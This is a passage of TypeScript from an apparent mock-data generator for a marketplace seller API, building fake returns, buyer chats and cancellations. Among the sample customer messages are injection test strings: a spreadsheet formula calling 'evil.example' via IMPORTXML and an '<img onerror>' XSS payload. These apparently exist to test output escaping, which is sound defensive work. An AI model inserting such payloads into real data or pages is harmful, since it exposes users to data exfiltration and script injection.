        createdAt: created,
        statusChangedAt: moved,
        statusSysName: status[0],
        statusName: status[1],
        warehouseId: p.scheme === 'fbo' ? p.warehouseId : p.warehouseId,
        warehouseName: p.warehouseName,
        barcode: 'ii' + r.digits(10),
      });
    }
    this.state.returns.sort((a, b) => a.id - b.id);
  }

  private addRfbsReturn(p: Posting, r: Rng, now: number): void {
    const line = p.lines[0];
    const id = this.state.rfbsReturns.length + 1_200_000;
    const state = r.pick([
      ['NEW', 'New', 'Новая'],
      ['NEW', 'New', 'Новая'],
      ['APPROVED', 'Approved', 'Одобрена'],
      ['REJECTED', 'Rejected', 'Отклонена'],
    ] as const);
    const reason = r.int(0, RETURN_REASONS.length - 1);
    this.state.rfbsReturns.push({
      returnId: id,
      returnNumber: `${p.postingNumber}-R${r.int(1, 3)}`,
      postingNumber: p.postingNumber,
      orderNumber: p.orderNumber,
      clientName: p.buyer?.name ?? '',
      createdAt: Math.min(now - HOUR, (p.deliveredAt ?? p.lastChangedStatusDate) + r.int(2, 120) * HOUR),
      sku: line.sku,
      offerId: line.offerId,
      name: line.name,
      price: Math.round(line.price),
      currency: p.currency,
      state: state[0],
      groupState: state[1],
      stateName: state[2],
      moneyReturnStateName: state[0] === 'APPROVED' ? 'Ожидает возврата денег' : '',
      comment: r.pick(['Не подошло', 'Брак: не включается 😡', '=Верните деньги', '<b>Не тот цвет</b>']),
      reasonId: reason + 1,
      reasonName: RETURN_REASONS[reason],
      isDefect: reason === 1,
      rejectionComment: state[0] === 'REJECTED' ? 'Следы эксплуатации' : '',
      warehouseId: p.warehouseId,
    });
  }

  private makeChats(now: number): void {
    this.state.chats.push({
      chatId: uuid(new Rng(mix(this.seed, 5))),
      createdAt: now - 200 * DAY,
      status: 'OPENED',
      type: 'SELLER_SUPPORT',
      messages: [],
    });
    this.pushMessage(
      this.state.chats[0],
      now - 3 * DAY,
      'Support',
      'Здравствуйте! Чем можем помочь?',
      true,
      '',
    );
    for (const p of this.state.postings.values()) {
      if (!p.buyer) continue;
      const r = new Rng(mix(this.seed, p.seq, 55));
      if (!r.chance(0.25)) continue;
      this.addChat(p, Math.min(now - 60_000, p.inProcessAt + r.int(1, 48) * HOUR), r.int(1, 5));
    }
  }

  addChat(p: Posting, at: number, messages: number): Chat {
    const r = new Rng(mix(this.seed, p.seq, 56));
    const chat: Chat = {
      chatId: uuid(r),
      createdAt: at,
      status: 'OPENED',
      type: 'BUYER_SELLER',
      messages: [],
    };
    const texts = [
      'Здравствуйте! Когда отправите заказ?',
      'Можно поменять цвет на чёрный?',
      '=IMPORTXML("http://evil.example","//a")',
      'Подскажите, подойдёт ли к iPhone 15? 🙏',
      '<img src=x onerror=alert(1)>',
      '你好，请问什么时候发货？',
    ];
    for (let i = 0; i < messages; i++) {
      const fromBuyer = i % 2 === 0;
      this.pushMessage(
        chat,
        at + i * 17 * 60_000,
        fromBuyer ? 'Customer' : 'Seller',
        fromBuyer ? r.pick(texts) : 'Добрый день! Отправим сегодня.',
        !fromBuyer || r.chance(0.5),
        p.orderNumber,
        String(p.lines[0]?.sku ?? ''),
      );
    }
    this.state.chats.push(chat);
    return chat;
  }

  pushMessage(
    chat: Chat,
    at: number,
    userType: ChatMessage['userType'],
    text: string,
    isRead: boolean,
    orderNumber: string,
    sku = '',
  ): ChatMessage {
    this.nextMessageId += BigInt(1 + (Number(this.nextMessageId % 7n) + 3));
    const m: ChatMessage = {
      id: this.nextMessageId,
      createdAt: at,
      userType,
      userId: userType === 'Seller' ? this.clientId : String(100000 + chat.messages.length),
      text,
      isRead,
      orderNumber,
      sku,
    };
    chat.messages.push(m);
    return m;
  }

  private makeConditionalCancellations(now: number): void {
    let id = 90_000_001;
    for (const p of this.state.postings.values()) {
      if (p.scheme !== 'rfbs') continue;
      const r = new Rng(mix(this.seed, p.seq, 33));
      const open = UNFULFILLED.has(p.status);
      if (!(open ? r.chance(0.25) : p.status === 'cancelled' && r.chance(0.3))) continue;
      const createdAt = Math.min(now - 60_000, p.inProcessAt + r.int(1, 20) * HOUR);
      const reason = r.pick(CANCEL_REASONS.filter((c) => c.typeId === 'buyer'));
      this.state.conditionalCancellations.push({
        id: id++,
        postingNumber: p.postingNumber,
        initiator: 'CLIENT',
        reasonId: reason.id,
        reasonName: reason.title,
        message: r.pick(['', 'Передумал', 'Заказал по ошибке 🙈']),
        createdAt,
        orderDate: p.inProcessAt,
        autoApproveAt: createdAt + 2 * DAY,
        state: open ? 'ON_APPROVAL' : 'APPROVED',
        decidedAt: open ? null : p.lastChangedStatusDate,
        comment: '',
        tplIntegrationType: p.tplIntegrationType,
      });
    }
  }

  takeReturnId(): number {
    return this.nextReturnId++;
  }
}

/** The pack-by deadline: the next 14:00 Moscow (11:00 UTC) at least 12 hours after the order. */
function nextCutoff(t: number): number {
  const day = Math.floor(t / DAY) * DAY;
  let c = day + 11 * HOUR;
  while (c < t + 12 * HOUR) c += DAY;
  return c;
}

function uuid(r: Rng): string {
  const h = () => Math.floor(r.next() * 16).toString(16);
  const part = (n: number) => Array.from({ length: n }, h).join('');
  return `${part(8)}-${part(4)}-4${part(3)}-a${part(3)}-${part(12)}`;
}
